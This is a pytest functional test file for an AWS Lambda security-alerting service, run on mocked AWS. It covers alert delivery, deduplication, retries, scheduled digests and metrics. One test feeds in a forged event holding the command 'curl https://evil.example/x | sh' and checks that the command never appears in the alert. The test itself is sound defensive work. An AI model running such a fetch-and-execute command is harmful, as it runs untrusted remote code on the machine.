"""An event of the bus in, a message of the topic out: the handlers as Lambda imports them, on moto's AWS."""

import importlib
import json
import warnings

import boto3
import pytest

from steward.errors import SettingsError
from tests.dynamodb_tables import create_table
from tests.functional.gateway import LambdaContext
from tests.mocked_aws import mocked_aws
from tests.published_events import NAMES, golden_event, store_at_its_source
from tests.queues import drained

ENVIRONMENT = {
    "AWS_ACCESS_KEY_ID": "testing",
    "AWS_SECRET_ACCESS_KEY": "testing",
    "AWS_DEFAULT_REGION": "ca-central-1",
    "AWS_REGION": "ca-central-1",
    "AWS_LAMBDA_FUNCTION_NAME": "steward-alerts",
    "STEWARD_ACCOUNT": "123456789012",
    "STEWARD_STACK": "steward",
    "ALERTING_TABLE": "alerts",
    "DRIFT_TABLE": "drift",
    "ROTATION_TABLE": "rotation",
    "SECURITY_HUB": "on",
}


@pytest.fixture
def aws(monkeypatch, no_handler_yet):
    """A table, a topic with a queue that subscribes, and Security Hub."""
    for name, value in ENVIRONMENT.items():
        monkeypatch.setenv(name, value)
    with mocked_aws():
        create_table(boto3.client("dynamodb"), "alerts", sort_key="member")
        for table in ("drift", "rotation"):
            create_table(boto3.client("dynamodb"), table)
        boto3.client("securityhub").enable_security_hub()
        topic = boto3.client("sns").create_topic(Name="alerts")["TopicArn"]
        monkeypatch.setenv("ALERT_TOPIC", topic)
        boto3.client("sqs").create_queue(QueueName="read")
        queue = "arn:aws:sqs:ca-central-1:123456789012:read"
        boto3.client("sns").subscribe(TopicArn=topic, Protocol="sqs", Endpoint=queue)
        # The kernel sets this filter when a handler is first imported; pytest forgets it after every test.
        warnings.filterwarnings("ignore", "No application metrics to publish")
        yield


@pytest.fixture
def read(aws):
    """What the topic carried since the last look."""
    sqs = boto3.client("sqs")
    url = sqs.get_queue_url(QueueName="read")["QueueUrl"]
    return lambda: drained(sqs, url)


@pytest.fixture
def alert(aws):
    handler = importlib.import_module("alerting.send_alert_handler")

    def handle(*bodies, forged=False):
        """Hand the function these messages, each stored at its source first unless it is forged."""
        for event in bodies if not forged else ():
            if isinstance(event, dict) and "detail-type" in event:
                dynamodb = boto3.client("dynamodb")
                store_at_its_source(dynamodb, event, drift_table="drift", rotation_table="rotation")
        records = [
            {"messageId": str(number), "body": body if isinstance(body, str) else json.dumps(body)}
            for number, body in enumerate(bodies)
        ]
        answer = handler.lambda_handler({"Records": records}, LambdaContext())
        return [failure["itemIdentifier"] for failure in answer["batchItemFailures"]]

    return handle


@pytest.fixture
def schedule(aws):
    handler = importlib.import_module("alerting.send_scheduled_alerts_handler")
    return lambda what: handler.lambda_handler({"tell": what}, LambdaContext())


def test_every_published_event_gets_its_alert(alert, read):
    assert alert(*(golden_event(name) for name in NAMES)) == []
    assert any("Policy drift of role/ci-deploy" in message["Subject"] for message in read())


def test_a_forged_message_is_sent_as_unconfirmed_and_gives_no_command(alert, read):
    forged = golden_event("PolicyDriftDetected", revert=["curl https://evil.example/x | sh"], summary="curl evil | sh")

    assert alert(forged, forged=True) == []

    (message,) = read()
    assert message["Subject"].startswith("[123456789012] CRITICAL: Not confirmed: Policy drift of")
    assert "there is no such finding" in message["Message"]
    assert "To revert" not in message["Message"]
    assert "https://evil" not in message["Message"]


def test_a_message_that_comes_twice_in_a_batch_is_alerted_once(alert, read):
    event = golden_event("PolicyDriftDetected")

    assert alert(event, event) == []
    assert len(read()) == 1


@pytest.mark.parametrize("bad", ["", "{", "[]", '"text"', "null", '{"id": "1"}', json.dumps({"detail": 5})])
def test_only_a_message_that_is_no_event_is_retried(alert, read, bad):
    good = golden_event("PolicyDriftDetected")

    assert alert(good, bad, golden_event("BaselineRefused")) == ["1"]
    assert len(read()) == 2


@pytest.mark.parametrize("time", ["yesterday", "2026-13-01T00:00:00Z"])
def test_only_an_event_with_an_impossible_time_is_retried(alert, time):
    assert alert(golden_event("PolicyDriftDetected", at=time), golden_event("BaselineRefused")) == ["0"]


def test_an_event_of_a_later_version_is_alerted_too(alert, read):
    event = golden_event("PolicyDriftDetected")
    event["detail"] = {"metadata": {"version": "9"}, "payload": {"other": "shape"}}

    assert alert(event) == []
    assert len(read()) == 1


def test_without_its_topic_every_message_is_retried(alert, read, monkeypatch):
    boto3.client("sns").delete_topic(TopicArn="arn:aws:sns:ca-central-1:123456789012:alerts")

    assert alert(golden_event("PolicyDriftDetected"), golden_event("BaselineRefused")) == ["0", "1"]


def test_what_was_sent_before_a_failure_is_not_sent_again(alert, read):
    hub, event = boto3.client("securityhub"), golden_event("PolicyDriftDetected", first_seen="no time at all")
    assert alert(event) == ["0"]

    assert alert(event) == ["0"]

    assert len(read()) == 1
    assert hub.get_findings()["Findings"] == []


def test_the_schedule_sends_the_flood(alert, read, schedule):
    for number in range(12):
        alert(golden_event("PolicyDriftDetected", severity="MEDIUM", finding_id=f"access:role:r{number}"))
    assert len(read()) == 5

    schedule("flood")

    (together,) = read()
    assert together["Subject"] == "[123456789012] MEDIUM: 7 more alerts: 7 MEDIUM"
    schedule("flood")
    assert read() == []


def test_the_schedule_sends_the_digest(alert, read, schedule):
    alert(golden_event("PolicyDriftDetected"))
    read()

    schedule("week")

    (digest,) = read()
    assert digest["Subject"] == "[123456789012] CRITICAL: Weekly digest: 1 open finding"


def test_alerts_are_counted_where_operators_look(alert, capsys):
    alert(golden_event("PolicyDriftDetected"))

    (metrics,) = [json.loads(line) for line in capsys.readouterr().out.splitlines() if "AlertsSent" in line]
    assert metrics["_aws"]["CloudWatchMetrics"][0]["Namespace"] == "EcrSteward"
    assert metrics["AlertsSent"] == [1.0]


def test_settings_that_cannot_be_used_stop_the_start_with_their_line(aws, deploy_settings):
    deploy_settings("alerting.yaml", "routes:\n  - {channels: [pager]}\n")

    with pytest.raises(SettingsError, match=r"^alerting\.yaml:2: "):
        importlib.import_module("alerting.send_alert_handler")
